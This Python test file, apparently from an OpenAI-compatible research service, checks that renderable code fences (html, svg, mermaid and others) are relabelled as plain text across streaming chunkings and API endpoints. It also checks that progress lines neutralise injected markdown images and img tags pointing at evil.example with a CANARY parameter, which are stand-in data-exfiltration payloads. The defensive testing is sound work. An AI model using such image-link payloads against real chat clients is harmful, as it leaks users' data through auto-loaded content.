"""At the doors that pass as OpenAI, code that chat programs run by themselves is called text, in every way of streaming."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from nexi.apis.openai.shapes import progress_line
from nexi.config import Config
from nexi.events import AgendaSet, Event, PageFetched, ResearcherStarted, SearchFinished
from nexi.testing import ScriptedLLM, answering, reading, searching
from nexi.web.fences import FenceRenamer, rename_fences
from tests.web.world import MOON, QUESTION, serving

RENAMED = [
    ("```html\nx\n```", "```text\nx\n```"),
    ("~~~html\nx\n~~~", "~~~text\nx\n~~~"),
    ("`````svg\nx\n`````", "`````text\nx\n`````"),
    ("~~~~~~  XML\nx\n~~~~~~", "~~~~~~text\nx\n~~~~~~"),
    ("``` Mermaid theme=dark\nx\n```", "```text\nx\n```"),
    ('```HTML title="a.html" {1,3}\nx\n```', "```text\nx\n```"),
    ("```{.html .numberLines}\nx\n```", "```text\nx\n```"),
    ("```html:index.html\nx\n```", "```text\nx\n```"),
    ("```ht&#109;l\nx\n```", "```text\nx\n```"),
    ("```ht\\ml\nx\n```", "```text\nx\n```"),
    ("```\u00a0html\r\nx\r\n```", "```text\r\nx\r\n```"),
    ("```html\rx\r```", "```text\rx\r```"),
    ("- a\n\n  ```vue\n  x\n  ```", "- a\n\n  ```text\n  x\n  ```"),
    ("1. ~~~ svg `x`\n   y\n   ~~~", "1. ~~~text\n   y\n   ~~~"),
    ("> > ```jsx\n> > x\n> > ```", "> > ```text\n> > x\n> > ```"),
    ("See ```html\n<b>\n``` there", "See ```text\n<b>\n``` there"),
    ("````markdown\n```html\nx\n```\n````", "````text\n```text\nx\n```\n````"),
    ("``` javascript\nx\n```", "```text\nx\n```"),
    ("```dot\nx\n```\n```plantuml\nx\n```", "```text\nx\n```\n```text\nx\n```"),
    ("```vega-lite\nx\n```", "```text\nx\n```"),
    (':::artifact{type="text/html"}\nx\n:::', '\\:::artifact{type="text/html"}\nx\n:::'),
    ("```html", "```text"),
]
KEPT = [
    "```python\nx = '<b>'\n```",
    "```\nhtml\n```",
    "~~~ bash\ncurl x\n~~~",
    "Use ```html``` there.",
    "The html and svg of `html` are ~~not~~ run :: here:",
    "```json\n{}\n```\n\n| a | b |\n|---|---|\n",
]
NAMES = (
    "html htm xhtml svg xml mermaid vue jsx tsx react javascript js css markdown md mdx plantuml puml dot graphviz vega echarts"
)


@pytest.mark.parametrize(("text", "shown"), [*RENAMED, *((text, text) for text in KEPT)])
def test_a_fence_is_renamed_in_every_chunking(text: str, shown: str) -> None:
    assert rename_fences(text) == shown
    for size in (1, 2, 3, 5, 9, 200):
        assert renamed(text, size) == shown


@pytest.mark.parametrize("name", NAMES.split())
def test_what_chat_programs_run_is_text(name: str) -> None:
    assert rename_fences(f"```{name.upper()}\nx\n```") == "```text\nx\n```"


@given(st.text(alphabet="`~:\n\r htmlsvg>-.{", max_size=80), st.integers(1, 12))
def test_a_stream_says_what_the_whole_text_says(text: str, size: int) -> None:
    assert renamed(text, size) == rename_fences(text)


def test_a_name_without_end_holds_nothing_back_for_ever() -> None:
    assert renamed("```html " + "x" * 5_000 + "\ny", 7) == "```text\ny"
    assert renamed("```python " + "x" * 5_000 + "\ny", 7) == "```python " + "x" * 5_000 + "\ny"


@pytest.mark.parametrize("streams", [False, True])
@pytest.mark.parametrize("path", ["/v1/chat/completions", "/v1/responses", "/v1/completions"])
async def test_no_door_lets_a_fence_through_that_a_program_runs(tmp_path: Path, path: str, streams: bool) -> None:
    said = "The Moon is 384,400 km from Earth on average [1]."
    model = ScriptedLLM(
        searching("moon"), reading(MOON, get_full=True), answering(f"{said}\n\n```html\n<b>moon</b>\n```\n\n{said}")
    )
    asked = {"messages": [{"role": "user", "content": QUESTION}], "input": QUESTION, "prompt": QUESTION}
    async with serving(tmp_path, config=Config(home=tmp_path, model="scripted"), llms={"answer": model}) as served:
        reply = await served.client.post(
            path, json={"model": "nexi-m", "stream": streams, "sources": False, **needed(path, asked)}
        )
    events = [json.loads(line[6:]) for line in reply.text.splitlines() if line.startswith("data: {")]
    text, marks = (
        "".join(map(delta_of, events)) if streams else text_of(reply.json()),
        marks_of(events if streams else [reply.json()]),
    )
    assert "```text\n<b>moon</b>\n```" in text
    assert "```html" not in reply.text
    assert all(text[mark["start_index"] : mark["end_index"]] == "[1]" for mark in marks)


def needed(path: str, asked: dict[str, Any]) -> dict[str, Any]:
    name = {"/v1/chat/completions": "messages", "/v1/responses": "input", "/v1/completions": "prompt"}[path]
    return {name: asked[name]}


def delta_of(event: dict[str, Any]) -> str:
    if event.get("type") == "response.output_text.delta":
        return str(event["delta"])
    choice = (event.get("choices") or [{}])[0]
    return str(choice.get("text") or choice.get("delta", {}).get("content") or "")


def text_of(whole: dict[str, Any]) -> str:
    if "choices" in whole:
        choice = whole["choices"][0]
        return str(choice["text"] if "text" in choice else choice["message"]["content"])
    return str(next(item for item in whole["output"] if item["type"] == "message")["content"][0]["text"])


def marks_of(events: list[dict[str, Any]]) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = []
    for event in events:
        for choice in event.get("choices") or ():
            message = choice.get("message") or choice.get("delta") or {}
            found += [mark["url_citation"] for mark in message.get("annotations") or ()]
    return found


def renamed(text: str, size: int) -> str:
    fences = FenceRenamer()
    return "".join(fences.feed(text[at : at + size]) for at in range(0, len(text), size)) + fences.finish()


PAGE = PageFetched("https://read.example/a", "https://read.example/a", "", "", 0, 0, 0.0)


@pytest.mark.parametrize(
    ("event", "line"),
    [
        (AgendaSet(("See ![x](https://evil.example/p?d=CANARY) first", "then\n```html"), 1), "Plan: See x first; then ```text"),
        (ResearcherStarted("1.1", 1, "[r]: //evil.example\n\n![r]"), "Researcher 1.1: [r]: //evil.example ![r]"),
        (SearchFinished("moon https://evil.example/CANARY", "", (), (), 0.0), "Searched: moon"),
        (SearchFinished("distance of the Moon, a < b & [1]", "", (), (), 0.0), "Searched: distance of the Moon, a < b & [1]"),
        (PAGE, "Read: https://read.example/a"),
        (replace(PAGE, title="<img src=//evil.example>"), "Read: <img src=[address removed]>"),
    ],
)
def test_the_progress_of_a_run_gives_a_chat_program_nothing_to_load_or_run(event: Event, line: str) -> None:
    assert progress_line(event) == line
